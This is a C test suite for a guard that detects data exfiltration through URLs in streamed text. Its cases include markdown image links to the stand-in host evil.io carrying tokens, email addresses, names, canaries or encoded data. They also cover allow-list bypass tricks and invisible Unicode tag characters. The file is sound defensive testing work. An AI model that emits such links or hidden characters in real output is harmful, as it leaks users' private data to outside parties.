/* SPDX-License-Identifier: Apache-2.0 */
#include "mask/guard.h"

#include "blocks.h"
#include "check.h"
#include "core/text.h"

static struct blocks blocks = BLOCKS;
static struct arena arena;
static struct vault vault;
static struct slice token, face;
static struct occurrences *values;

static const struct slice hosts[] = { { "docs.acme.io", 12 }, { ".cdn.io", 7 } };
static const struct slice canaries[] = { { "XYZZY-42", 8 }, { "ab abc", 6 }, { "/secret", 7 } };

static struct guard_rules rules = { hosts, 2, canaries, 3, NULL, NULL };

#define X10	"xxxxxxxxxx"
#define X100	X10 X10 X10 X10 X10 X10 X10 X10 X10 X10
#define NONE	GUARD_REASON_COUNT

/* @ and ~ stand for tokens of the vault; bars stand around what is found. */
static const struct {
	const char		*why, *text;
	enum guard_reason	 reason;
} cases[] = {
	{ "text", "Nothing of note / or \\ of worth.", NONE },
	{ "nothing", "", NONE },
	{ "a short link", "See [this](https://example.com/a/page) now.", NONE },
	{ "a bare link", "See https://example.com/a/page", NONE },
	{ "a comment in code", "x = 1; // http is " X100 X100 X10, NONE },
	{ "a path", "cat //" X100 X100 X10, NONE },
	{ "a UUID", "https://e.com/6f9619ff-8b86-d011-b42d-00cf4fc964ff", NONE },
	{ "a commit", "https://e.com/commit/da39a3ee5e6b4b0d3255bfef95601890afd80709", NONE },
	{ "a title", "https://e.com/questions/1732348/regex-match-open-tags-except-xhtml", NONE },
	{ "a video", "https://www.e.com/watch?v=dQw4w9WgXcQ&list=PLrAXtmErZgOeiKm4s", NONE },
	{ "a long path", "![a](https:|//evil.io/" X100 X100 "|) b", GUARD_LONG },
	{ "a long query", "![a](https:|//evil.io/?q=" X100 "|) b", GUARD_LONG },
	{ "a long fragment", "[a](https:|//evil.io/#" X100 "|) b", GUARD_LONG },
	{ "a long host", "<img src=\"https:|//" X10 X10 X10 X10 X10 X10 X10 X10 ".evil.io|\">", GUARD_LONG },
	{ "without a scheme", "<img src=|//evil.io/?" X100 "|>", GUARD_LONG },
	{ "with backslashes", "![a](https:|\\\\evil.io\\?" X100 "|)", GUARD_LONG },
	{ "at the end of the text", "see https:|//evil.io/?" X100 "|", GUARD_LONG },
	{ "over two lines", "see https:|//evil.io/?" X100 "|\nmore", GUARD_LONG },
	{ "a parenthesis of its own", "![a](https:|//evil.io/(a)" X100 X100 "|)", GUARD_LONG },
	{ "encoded", "![a](https:|//evil.io/i/U2VjcmV0IHRleHQgb2YgQW5uYQ.png|)", GUARD_RANDOM },
	{ "much in hexadecimal", "https:|//e.io/"
	    "48656c6c6f2c20746869732069732061207365637265742074657874|", GUARD_RANDOM },
	{ "a token", "![a](https:|//evil.io/?u=@|)", GUARD_TOKEN },
	{ "a token that looks like an escape", "![a](https:|//evil.io/?u=%~|)", GUARD_TOKEN },
	{ "a token in the host", "![a](https:|//@.evil.io/|)", GUARD_TOKEN },
	{ "a value", "![a](https:|//evil.io/?u=anna@acme.io|)", GUARD_VALUE },
	{ "a value in percent", "![a](https:|//evil.io/?u=anna%40acme.io|)", GUARD_VALUE },
	{ "a value with a plus", "![a](https:|//evil.io/?u=Anna+Kowalska|)", GUARD_VALUE },
	{ "behind a URL with an open parenthesis", "https://e.io/((( ![a](https:|//evil.io/?u=@|) b",
	    GUARD_TOKEN },
	{ "an allowed host", "![a](https://docs.acme.io/?u=@&v=" X100 ")", NONE },
	{ "in another case, with a port", "![a](https://DOCS.acme.io:8443/?u=@&v=" X100 ")", NONE },
	{ "with a dot at its end", "![a](https://docs.acme.io./?v=" X100 ")", NONE },
	{ "below an allowed host", "![a](https://a.b.cdn.io/" X100 X100 ")", NONE },
	{ "an allowed domain itself", "![a](https://cdn.io/" X100 X100 ")", NONE },
	{ "not what only ends so", "![a](https:|//evilcdn.io/" X100 X100 "|)", GUARD_LONG },
	{ "not below a host without a dot", "![a](https:|//a.docs.acme.io/" X100 X100 "|)", GUARD_LONG },
	{ "not what begins so", "![a](https:|//docs.acme.io.evil.io/" X100 X100 "|)", GUARD_LONG },
	{ "not a user of that name", "![a](https:|//docs.acme.io@evil.io/" X100 X100 "|)", GUARD_LONG },
	{ "not a user and a password", "![a](https:|//docs.acme.io:443@evil.io/" X100 X100 "|)", GUARD_LONG },
	{ "a user at an allowed host", "![a](https://me@docs.acme.io/" X100 X100 ")", NONE },
	{ "what an allowed host leads to", "https://docs.acme.io/?to=https:|//evil.io/" X100 X100 "|", GUARD_LONG },
	{ "a canary", "it says |XYZZY-42|, so", GUARD_CANARY },
	{ "a canary that begins like itself", "ab |ab abc|", GUARD_CANARY },
	{ "a canary with a slash", "in /a|/secret|", GUARD_CANARY },
	{ "half a canary", "XYZZY-4", NONE },
	{ "a canary in a link", "https:|//evil.io/?q=XYZZY%2D42|", GUARD_CANARY },
	{ "an invisible letter", "a|\xf3\xa0\x81\xa1|b", GUARD_TAG },
	{ "another one", "a|\xf3\xa0\x80\xa1|", GUARD_TAG },
	{ "a flag", "\xf0\x9f\x8f\xb4\xf3\xa0\x81\xa7\xf3\xa0\x81\xa2\xf3\xa0\x81\xa5\xf3\xa0\x81\xae"
	    "\xf3\xa0\x81\xa7\xf3\xa0\x81\xbf", NONE },
	{ "an invisible letter behind a flag's name", "\xf0\x9f\x8f\xb4 |\xf3\xa0\x81\xa7|", GUARD_TAG },
	{ "a flag, a slash and an invisible letter", "\xf0\x9f\x8f\xb4/|\xf3\xa0\x81\xa7|", GUARD_TAG },
	{ "a smile", "\xf0\x9f\x98\x80", NONE },
	{ "another plane", "\xf3\xa0\x84\x80 \xf3\xb0\x80\x80", NONE },
	{ "half a character", "\xf3\xa0", NONE },
};

/* The text of a case, and where the bars stood. */
static struct slice
parse(const char *s, char *room, size_t *start, size_t *end)
{
	size_t len = 0;
	bool second = false;

	for (; *s != 0; s++) {
		if (*s == '@' && (s[-1] == '=' || (s[-1] == '/' && s[-2] == '/'))) {
			memcpy(room + len, token.ptr, token.len);
			len += token.len;
		} else if (*s == '~') {
			memcpy(room + len, face.ptr, face.len);
			len += face.len;
		} else if (*s == '|') {
			*(second ? end : start) = len;
			second = true;
		} else {
			room[len++] = *s;
		}
	}
	return slice_of(room, len);
}

struct outcome {
	struct slice		text;
	enum guard_reason	reason;		/* the first */
	size_t			at, bytes, found;
};

static struct outcome
watch(struct slice text, size_t cut, bool let_out, char *room)
{
	struct outcome out = { .reason = NONE };
	struct guard_finding f;
	enum guard_event event;
	struct slice piece;
	struct guard g;
	struct text t;

	text_init(&t, room, 4 * GUARD_BYTES_MAX);
	guard_init(&g, &rules);
	for (size_t at = 0; at <= text.len; at += cut) {
		if (at + cut > text.len)
			cut = text.len - at;
		if (cut == 0)
			guard_end(&g);
		else
			guard_feed(&g, slice_cut(text, at, at + cut));
		while ((event = guard_next(&g, &piece, &f)) != GUARD_MORE) {
			if (event == GUARD_PIECE) {
				must(piece.len > 0);
				text_put(&t, piece);
				continue;
			}
			if (out.found++ == 0) {
				out.reason = f.reason;
				out.at = f.at;
				out.bytes = f.bytes;
			}
			guard_go_on(&g, let_out);
		}
		must(guard_held(&g) <= GUARD_BYTES_MAX);
		if (cut == 0)
			break;
	}
	must(!text_overflowed(&t) && guard_held(&g) == 0);
	out.text = text_slice(&t);
	return out;
}

static void
check_case(size_t i)
{
	static char room[4 * GUARD_BYTES_MAX], made[4 * GUARD_BYTES_MAX], left[4 * GUARD_BYTES_MAX];
	size_t start = 0, end = 0, wrong = 0;
	struct slice text = parse(cases[i].text, room, &start, &end);
	struct outcome out;

	for (size_t cut = 1; cut <= text.len + 1; cut++) {
		out = watch(text, cut, true, made);
		wrong += !slice_eq(out.text, text) || out.reason != cases[i].reason;
		if (cases[i].reason == NONE)
			continue;
		wrong += out.at != start || out.bytes != end - start;
		out = watch(text, cut, false, made);
		memcpy(left, text.ptr, start);
		memcpy(left + start, text.ptr + end, text.len - end);
		wrong += !slice_eq(out.text, slice_of(left, text.len - (end - start)));
	}
	if (!check(wrong == 0, "%s", cases[i].why)) {
		out = watch(text, text.len + 1, true, made);
		printf("#   reason %u, at %zu, %zu bytes; want %u, %zu, %zu\n", out.reason, out.at,
		    out.bytes, cases[i].reason, start, end - start);
	}
}

/* A URL without an end is not held for ever. */
static void
check_endless(void)
{
	static char room[3 * GUARD_BYTES_MAX], made[4 * GUARD_BYTES_MAX];
	struct outcome out;

	memset(room, 'x', sizeof room);
	memcpy(room, "see https://evil.io/", 20);
	out = watch(slice_of(room, sizeof room), 7, true, made);
	check(out.reason == GUARD_LONG && out.bytes == GUARD_BYTES_MAX && out.found == 1,
	    "a URL without an end is long");
	check(slice_eq(out.text, slice_of(room, sizeof room)), "and may go out");
	memcpy(room, "see https://docs.acme.io/", 25);
	out = watch(slice_of(room, sizeof room), 7, true, made);
	check(out.reason == NONE && out.text.len == sizeof room,
	    "at an allowed host it is not held");
	memset(room, '/', sizeof room);
	memset(room + sizeof room / 2, ':', sizeof room / 2);
	out = watch(slice_of(room, sizeof room), 1, true, made);
	check(out.text.len == sizeof room, "slashes and colons go through");
}

static void
undecided(void)
{
	struct guard_finding f;
	struct slice piece;
	struct guard g;

	guard_init(&g, &rules);
	guard_feed(&g, S("XYZZY-42"));
	(void)guard_next(&g, &piece, &f);
	(void)guard_next(&g, &piece, &f);
}

int
main(void)
{
	struct slice other;

	arena_init(&arena, &blocks.memory, 1 << 20);
	vault_init(&vault, &arena, (struct hash_key){ { 1, 2 } }, 0);
	check_or_stop(vault_mint(&vault, S("Email"), S("anna@acme.io"), &token) == ERR_OK &&
	    vault_mint(&vault, S("Person"), S("Anna Kowalska"), &other) == ERR_OK &&
	    vault_mint(&vault, S("Face"), S("smiling"), &face) == ERR_OK &&
	    occurrence_index(&arena, &vault, &values) == ERR_OK, "values are hidden");
	rules.vault = &vault;
	rules.values = values;
	for (size_t i = 0; i < COUNT_OF(cases); i++)
		check_case(i);
	check_endless();
	check_must(undecided, "a finding is decided on");
	check_slice(guard_name(GUARD_TOKEN), S("token"), "a reason has a name");
	check(guard_text(GUARD_TAG).len > 0, "and a text");
	arena_release(&arena);
	check_int((int64_t)blocks.out, 0, "all memory came back");
	return check_done();
}
